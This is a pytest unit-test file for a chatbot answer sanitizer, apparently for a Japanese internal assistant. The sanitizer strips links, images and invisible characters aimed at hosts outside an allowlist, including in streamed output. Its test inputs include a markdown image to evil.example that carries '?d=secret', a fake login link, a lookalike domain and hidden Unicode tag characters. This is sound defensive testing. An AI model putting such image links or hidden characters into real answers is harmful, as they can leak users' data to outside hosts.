"""Answers lose invisible characters and links or images to hosts not on the allowlist."""

from __future__ import annotations

import random

import pytest

from bot.core.sanitize import CleanStream, sanitize_answer

pytestmark = pytest.mark.unit

ALLOW = ("intranet.example.co.jp",)


@pytest.mark.parametrize(
    ("answer", "expected"),
    [
        ("見てください ![x](https://evil.example/p.png?d=secret) 以上", "見てください  以上"),
        ("[手順書](https://evil.example/login) を参照", "手順書 を参照"),
        ("<https://evil.example/a|こちら> です", "こちら です"),
        ("go to https://evil.example/x now", "go to [link removed] now"),
        ("[wiki](https://wiki.intranet.example.co.jp/a) ok", "[wiki](https://wiki.intranet.example.co.jp/a) ok"),
        ("![chart](https://intranet.example.co.jp/c.png)", "![chart](https://intranet.example.co.jp/c.png)"),
        ("https://intranet.example.co.jp.evil.example/x", "[link removed]"),
        ("締め日は\u200b25日\U000e0041です", "締め日は25日です"),
        ("plain [1] citation stays", "plain [1] citation stays"),
    ],
)
def test_sanitize_answer(answer: str, expected: str) -> None:
    """Each kind of link, image and hidden character, with allowlisted near-misses kept."""
    assert expected == sanitize_answer(answer, ALLOW)


# --- streaming: what a transport shows is always the start of the final, clean answer ----------

_FRAGMENTS = [
    "締め日は",
    "毎月",
    "25日",
    "です",
    "。",
    "\n",
    " ",
    "[1]",
    "[2]",
    "日本語",
    "詳細は",
    "https://evil.example/x",
    "HTTPS://Evil.Example/p",
    "http",
    "s://",
    "evil.example",
    "/path",
    "[手順書](https://evil.example/login)",
    "![x](https://evil.example/p.png)",
    "<https://evil.example|こちら>",
    "[wiki](https://wiki.intranet.example.co.jp/a)",
    "https://intranet.example.co.jp/ok",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    "|",
    ":",
    "/",
    ".",
    "@",
    "\u200b",
    "\U000e0041",
    "ht",
    "tp",
    "://",
    "ftp",
    "mailto:",
    "a",
    "b",
    "ok",
    "See",
    "リンク",
    "（注）",
    "[http](y)",
    "[x](http://[::1",
]


def _shown_pieces(answer: str, cuts: list[int]) -> tuple[list[str], str]:
    stream = CleanStream(ALLOW)
    pieces, last = [], 0
    for cut in [*sorted(cuts), len(answer)]:
        pieces.append(stream.feed(answer[last:cut]))
        last = cut
    tail, final = stream.finish()
    pieces.append(tail)
    return pieces, final


@pytest.mark.parametrize("seed", range(400))
def test_streamed_text_is_always_clean_and_the_start_of_the_final_answer(seed: int) -> None:
    """Random answers made of links, images, URLs split anywhere, Japanese and invisible characters,
    cut into random pieces: every text shown so far is clean (sanitising it again changes nothing),
    is the start of the final answer, and all pieces together are exactly the final answer, which is
    the answer sanitised whole."""
    rng = random.Random(seed)  # noqa: S311 - reproducible test data, not secrets
    answer = "".join(rng.choice(_FRAGMENTS) for _ in range(rng.randint(1, 30)))
    cuts = [rng.randint(0, len(answer)) for _ in range(rng.randint(0, 12))]
    pieces, final = _shown_pieces(answer, cuts)
    assert sanitize_answer(answer, ALLOW).strip() == final
    shown = ""
    for piece in pieces:
        shown += piece
        assert final.startswith(shown)
        assert sanitize_answer(shown, ALLOW) == shown
    assert final == shown


def test_japanese_streams_without_waiting_for_spaces() -> None:
    """Text without spaces is released as it comes (between non-ASCII characters)."""
    stream = CleanStream()
    assert "締め日は毎月25日で" == stream.feed("締め日は毎月25日です")
    assert "す。" == stream.feed("。次")


def test_a_link_split_across_pieces_is_never_shown() -> None:
    """`[手順](https://evil…)` arriving in pieces: the link text appears only once the link is whole,
    and its target never."""
    stream = CleanStream()
    shown = "".join(stream.feed(p) for p in ["手順は", "[こち", "ら](https://ev", "il.example/x)", "を見て"])
    tail, final = stream.finish()
    assert "手順はこちらを見て" == final
    assert final == shown + tail
    assert "evil" not in shown + tail


def test_malformed_url_does_not_raise() -> None:
    """An unclosed IPv6 bracket in a link target is removed, not a crash."""
    assert "x" == sanitize_answer("[x](http://[::1)")
